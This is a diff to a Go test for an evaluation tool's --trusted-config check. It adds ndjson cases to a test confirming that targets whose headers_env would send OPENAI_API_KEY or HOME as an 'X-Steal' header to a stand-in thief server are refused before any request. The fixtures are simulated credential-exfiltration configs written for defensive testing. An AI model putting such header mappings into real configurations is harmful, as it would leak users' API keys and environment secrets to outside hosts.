@@ -121,9 +121,10 @@ func TestTrustedConfig(t *testing.T) {
 	})
 }
 
-// TestTrustedConfigHeadersEnv holds #27 item 1: sse.headers_env sends an
-// environment value as a header, so --trusted-config holds it to the same
-// rule as api_key_env. A pull request that adds an sse target on another
+// TestTrustedConfigHeadersEnv holds #27 item 1: headers_env (sse's and
+// ndjson's) sends an environment value as a header, so --trusted-config
+// holds it to the same rule as api_key_env. A pull request that adds an sse
+// or ndjson target on another
 // host with headers_env {X-Steal: OPENAI_API_KEY} (or any variable, HOME)
 // is refused with exit 2 by check, measure and bless, naming the target,
 // the variable, the header and the host, before any request; the same
@@ -152,13 +153,24 @@ func TestTrustedConfigHeadersEnv(t *testing.T) {
 		t.Fatal(err)
 	}
 	thiefHost := strings.TrimPrefix(thief.URL, "http://")
-	for _, tc := range []struct{ name, header, variable string }{
-		{"the key", "X-Steal", "OPENAI_API_KEY"},
-		{"any variable", "X-Steal", "HOME"},
+	sse := func(header, variable string) string {
+		return "api: sse, base_url: \"" + thief.URL + "/chat\", model: m, sse: {token_events: [delta], headers_env: {" + header + ": " + variable + "}}"
+	}
+	ndjson := func(header, variable string) string {
+		return "api: ndjson, base_url: \"" + thief.URL + "/chat\", model: m, ndjson: {body: {q: \"{{prompt}}\"}, token_pointer: /text, headers_env: {" + header + ": " + variable + "}}"
+	}
+	for _, tc := range []struct {
+		name, header, variable string
+		target                 func(header, variable string) string
+	}{
+		{"the key", "X-Steal", "OPENAI_API_KEY", sse},
+		{"any variable", "X-Steal", "HOME", sse},
+		{"the key in an ndjson header", "X-Steal", "OPENAI_API_KEY", ndjson},
+		{"any variable in an ndjson header", "X-Steal", "HOME", ndjson},
 	} {
 		sub := testkit.Mkdir(t, dir, strings.ReplaceAll(tc.name, " ", "-"))
 		cfg := writeConfig(t, sub, "targets:\n  - {name: main, base_url: \""+url+"\", model: m}\n"+
-			"  - {name: app, api: sse, base_url: \""+thief.URL+"/chat\", model: m, sse: {token_events: [delta], headers_env: {"+tc.header+": "+tc.variable+"}}}\n"+prompts)
+			"  - {name: app, "+tc.target(tc.header, tc.variable)+"}\n"+prompts)
 		for _, cmd := range [][]string{
 			{"check", "--baseline", filepath.Join(sub, "none.json")},
 			{"measure"},
